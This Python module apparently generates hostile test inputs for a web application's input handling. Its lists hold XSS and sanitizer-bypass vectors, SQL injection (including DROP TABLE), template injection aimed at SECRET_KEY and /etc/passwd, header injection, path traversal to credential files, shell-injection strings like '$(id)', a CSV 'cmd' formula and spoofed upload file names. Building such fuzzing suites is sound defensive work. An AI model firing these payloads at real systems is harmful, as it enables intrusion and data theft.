"""What somebody hostile would send: by kind, from seeds, and from the samples where there are any.

A payload is text as Python holds it; half characters (lone surrogates) in it stand for bytes that
are no UTF-8, and go out as such.
"""

# ruff: noqa: RUF001  characters that look like others are what this is about

from __future__ import annotations

import json
import os
import random
from collections.abc import Callable, Iterator
from functools import cache
from pathlib import Path

Draw = Callable[[random.Random], str]

CALL = "window.__pwned=1"
SCRIPTS = [
    f"<script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<svg/onload={CALL}>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<details open ontoggle={CALL}>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<a href='javascript:{CALL}'>x</a>",
    f"<a href='jav&#x09;ascript:{CALL}'>x</a>",
    f"<a href=' &#14; javascript:{CALL}'>x</a>",
    f"<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=1 onerror={CALL}&gt;'>",
    f"<svg><style><a title='</style><img src=x onerror={CALL}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<form action=javascript:{CALL}><button formaction=javascript:{CALL}>x</button></form>",
    f"<object data='data:text/html,<script>{CALL}</script>'></object>",
    f"<embed src='javascript:{CALL}'><base href='//evil.example/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    "<link rel=stylesheet href='data:text/css,*{background:url(//evil.example)}'>",
    f"<div hx-get=/me/ hx-trigger=load hx-on::load='{CALL}'>x</div>",
    "<div data-hx-post='/tickets/new/' data-hx-trigger='load'>x</div>",
    f'"><script>{CALL}</script>',
    f"' onmouseover='{CALL}' x='",
    f'" autofocus onfocus="{CALL}" x="',
    f"</textarea><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"--><script>{CALL}</script><!--",
    f"]]><script>{CALL}</script>",
    f"<template><script>{CALL}</script></template>",
    f"<style>@import 'javascript:{CALL}';*{{x:expression({CALL})}}</style>",
    f"<p style='background:url(javascript:{CALL})' class=x id=main onclick={CALL}>x</p>",
    f"<x/**/onpointerenter={CALL} style=position:fixed;inset:0>x",
    f"<mj-raw><script>{CALL}</script></mj-raw><mj-include path='/etc/passwd' type='html'/>",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&amp;lt;img src=x onerror={CALL}&amp;gt;",
    f"<<script>{CALL}//<</script>",
    f"<scr\x00ipt>{CALL}</scr\x00ipt>",
    f"＜script＞{CALL}＜/script＞",
    f'http://x.example/" onmouseover={CALL} x="',
    f"https://x.example/?<img src=x onerror={CALL}>",
    f'a"onclick={CALL}@acme.test',
]
SQL = [
    "' OR 1=1 --", "'; DROP TABLE tickets_ticket; --", "1); SELECT pg_sleep(20); --", "\\'; --",
    "' UNION SELECT secret FROM customers_customer --", "$$; SELECT 1; $$", "%s %(x)s %% %",
    "E'\\x00'", "1e309", "'::regclass", "a' & !b | (c:*", "\\", "%", "_", "'", "''", "a\\' :*",
    "!!! & | <-> :* ()", "\"public\".\"x\"",
]  # fmt: skip
REGEX = [
    "a" * 5000 + "!", "(a+)+$" + "a" * 40, "[" * 500, "(?P<x>" * 50, "<" * 3000, "&" * 3000,
    "&amp" * 2000, "<a " * 1500, "http://" + "a." * 2000, "x@" + "a." * 2000, "((((" * 500,
    "https://x.example/" + ")" * 1900, ".+*?^$|[]{}()\\" * 100, "\n \t" * 2000,
    "*" * 3000, "@" * 3000, "a@a" * 1500,
]  # fmt: skip
TEMPLATES = [
    "{{ 31337|add:1 }}", "{% debug %}", "{{ request.session }}", "{% include '/etc/passwd' %}",
    "{{ settings.SECRET_KEY }}", "<c-button>x</c-button>", "{{ 31337*1 }}", "${31337+1}",
    "#{31337+1}", "<%= 31337+1 %>", "{% load kit %}{% x %}", "{{", "%}", "{% endblock %}",
    "{{ self.__class__.__mro__ }}", "{% csrf_token %}", "{# x", "{% verbatim %}", "${jndi:ldap://x}",
]  # fmt: skip
HEADERS = [
    "x\r\nBcc: eve@globex.test", "x\nSet-Cookie: __Host-session=1", "x\r\n\r\n<script>1</script>",
    "x\rTo: eve@globex.test", "x\u2028Bcc: eve@globex.test", "=?utf-8?q?x=0d=0aBcc:_eve?=",
    "x\x0bSubject: y", "x%0d%0aLocation:%20//evil.example", "\"x\"\r\n <eve@globex.test>",
    "eve@globex.test, uma@acme.test", "x\x85Bcc: eve@globex.test",
]  # fmt: skip
PATHS = [
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd\x00.png", "....//....//x",
    "%2e%2e%2f%2e%2e%2fsecrets.json", "C:\\x", "file:///etc/passwd", "php://filter/x", "~/.ssh/id",
    "//evil.example", "/\\evil.example", "\\\\evil.example\\x", "CON", "nul.txt", ".", "..", "/",
    "a/b/c", "x" * 400 + ".png", ".htaccess", "x.png/.", "x::$DATA", "javascript:alert(1)",
    "https://evil.example/", "http:evil.example", "///evil.example",
]  # fmt: skip
FORMATS = ["%s%s%s%n%n", "%(x)s", "{0.__class__}", "{x!r:>10}", "%1000000d", "$(id)", "`id`",
           "|id", ";id;", "!!python/object:os.system", "O:1:\"x\":0:{}", "${IFS}", "%p%x%d",
           "{:>999999999}", "%*d"]  # fmt: skip
NUMBERS = ["0", "-1", "-0", "1e9", "1e400", "NaN", "Infinity", "9" * 19, "9" * 400, "9" * 5000,
           "0x10", "1_000", "１２", "٣", "²", "½", "1.5", " 1 ", "+1", "1\x00", "true", "null",
           "[]", "-9223372036854775809", "4294967296", "2147483648", "1,000",
           "0" * 300 + "1"]  # fmt: skip
FORMULAS = ["=cmd|'/C calc'!A0", "@SUM(1+9)", "\t=1+1", "＝1+1", "\u200b-1+1", "+1;=2", "%0A=1",
            "|calc", "-1\r\n=2"]  # fmt: skip
EMOJI = ["👩‍👩‍👧‍👦", "🏳️‍🌈", "👍🏽", "🇩🇪🇨🇳", "e\u0301" * 50, "Z" + "\u0334\u0353\u0347" * 200,
         "ﷺ" * 50, "𝒳𝓈𝓈", "\U000e0041\U000e0042", "𠜎𠜱𠝹",
         "﷽" * 30, "İıſK", "ß" * 120]  # fmt: skip
HIDDEN = ["\u200b", "\u200d\u200c\u2060", "\ufeff", "\u3164", "\u00ad", "\u2800", "\u115f\u1160",
          "a\u200bb", "\u180e", "ad\u200bmin", " \u00a0\u3000 ", "\u034f", "\u202f"]  # fmt: skip
BIDI = ["\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u202a", "\u202b", "\u061c", "\u200f"]
JSONS = ['{"__proto__":{"x":1}}', '{"a":1,"a":2}', "[" * 2000, '{"a":' * 2000, '"\\ud800"',
         '{"$ne":null}', '["a","b"]', "1" * 400, "nul", '{"body":["x"]}']  # fmt: skip


def _script(rng: random.Random) -> str:
    text = rng.choice(SCRIPTS)
    way = rng.randrange(7)
    if way == 0:
        return "".join(rng.choice((sign.upper(), sign.lower())) for sign in text)
    if way == 1:
        return text.replace("<", rng.choice(("&lt;", "&#60", "&#x3c;", "%3C", "\\u003c", "＜")))
    if way == 2:
        at = rng.randrange(len(text))
        return text[:at] + rng.choice(("\x00", "\t", "\n", "/", "<!---->", "\u200b")) + text[at:]
    if way == 3:
        return rng.choice(("<p>", "<table>", "<select>", "<svg>", "<math>", "<!--", "<a ")) + text
    if way == 4:
        return text + rng.choice(SCRIPTS)
    return text


def _nul(rng: random.Random) -> str:
    text = rng.choice((*SCRIPTS, *SQL, "Uma", ""))
    at = rng.randrange(len(text) + 1)
    return (
        text[:at]
        + rng.choice(("\x00", "\x01", "\x08", "\x1b[2J", "\x7f", "\x9b", "\x0c"))
        + text[at:]
    )


def _half(rng: random.Random) -> str:
    half = chr(rng.choice((0xD800, 0xDBFF, 0xDC00, 0xDC80, 0xDCFF, 0xDFFF)))
    return f"a{half}b" if rng.random() < 0.5 else half + rng.choice(SCRIPTS)


def _bidi(rng: random.Random) -> str:
    return f"invoice{rng.choice(BIDI)}fdp.exe {rng.choice(('', rng.choice(BIDI)))}"


def _deep(rng: random.Random) -> str:
    tag = rng.choice(("div", "b", "blockquote", "ul><li", "table><tr><td", "a href=//x", "svg"))
    return f"<{tag}>" * rng.choice((190, 210, 1000)) + "x"


def _huge(rng: random.Random) -> str:
    piece = rng.choice(("A", "字", "<", "&", "<b>", "x y ", "\u202e", "👍", "<p>x", "a@b.cd "))
    return piece * (rng.choice((300, 3_000, 3_000, 60_000)) // len(piece))


def _noise(rng: random.Random) -> str:
    return "".join(chr(rng.randrange(0x20, 0x2FFFF)) for _ in range(rng.randrange(1, 120)))


def _long_words(rng: random.Random) -> str:
    return rng.choice(("字", "ﷺ", "é", "x", "𠜎", "\u0301")) * rng.choice((250, 2100, 9000))


def _from(texts: list[str]) -> Draw:
    return lambda rng: rng.choice(texts)


KINDS: dict[str, Draw] = {
    "script": _script,
    "sql": _from(SQL),
    "nul and control": _nul,
    "half character": _half,
    "bidi": _bidi,
    "huge": _huge,
    "deep": _deep,
    "regex": _from(REGEX),
    "template": _from(TEMPLATES),
    "header": _from(HEADERS),
    "path": _from(PATHS),
    "format": _from(FORMATS),
    "long words": _long_words,
    "hidden": _from(HIDDEN),
    "emoji": _from(EMOJI),
    "noise": _noise,
    "number": _from(NUMBERS),
    "formula": _from(FORMULAS),
    "json": _from(JSONS),
}


class Payload(str):
    """One hostile text that knows what it tries."""

    kind: str

    def __new__(cls, kind: str, text: str) -> Payload:
        made = super().__new__(cls, text)
        made.kind = kind
        return made

    def cut(self, room: int, *, end: str = "") -> Payload:
        """Its beginning, in so much room, and then the end."""
        return Payload(self.kind, f"{self[: room - len(end)]}{end}")

    def short(self) -> str:
        return f"{self.kind}: {self[:80]!r}"


def generated(count: int, *, seed: int) -> Iterator[Payload]:
    """So many payloads, every other one a script, the others each kind in turn."""
    rng = random.Random(seed)  # noqa: S311  no secret: the same again for the same seed
    kinds = rng.sample(list(KINDS), len(KINDS))
    for place in range(count):
        kind = "script" if place % 2 else kinds[place // 2 % len(kinds)]
        yield Payload(kind, KINDS[kind](rng))


def security_samples() -> Path | None:
    """The folder of what others collected, where SAMPLES names one."""
    folder = Path(os.environ.get("SAMPLES", "") or "missing", "security")
    return folder if folder.is_dir() else None


@cache
def sampled() -> tuple[Payload, ...]:
    """Everything in the samples, once each; nothing without them."""
    folder = security_samples()
    if folder is None:
        return ()
    texts = [
        str(case["payload"])
        for case in json.loads((folder / "dompurify_expect_223.json").read_text())
    ]
    texts += [str(text) for text in json.loads((folder / "blns.json").read_text())]
    for path in sorted([*folder.glob("*xss*"), *folder.glob("fuzzdb_*"), *folder.glob("csv_*")]):
        texts += path.read_text(errors="replace").splitlines()
    return tuple(Payload("sample", text) for text in dict.fromkeys(texts) if text.strip())


@cache
def file_names() -> tuple[str, ...]:
    """Names for files: ours, and OWASP's with their extensions filled in."""
    names = [
        *PATHS,
        "x.svg\u202egnp.exe",
        "<img src=x onerror=alert(1)>.png",
        "a\r\nb.txt",
        "=1.csv",
    ]
    names += [
        "x.php.jpg",
        "x.png.html",
        "x.jpg.svg",
        "x.html%00.png",
        "shell.PhP5",
        "x.svgz",
        "x.mht",
    ]
    if (folder := security_samples()) is not None:
        for path in sorted(folder.glob("filenames_*")):
            for line in path.read_text(errors="replace").splitlines():
                line = line.replace("{EXT}", "html").replace("{ASPSCRIPT}", "x.asp")
                names.append(f"x.{line}" if "alt-extensions" in path.name else line)
    return tuple(dict.fromkeys(names))
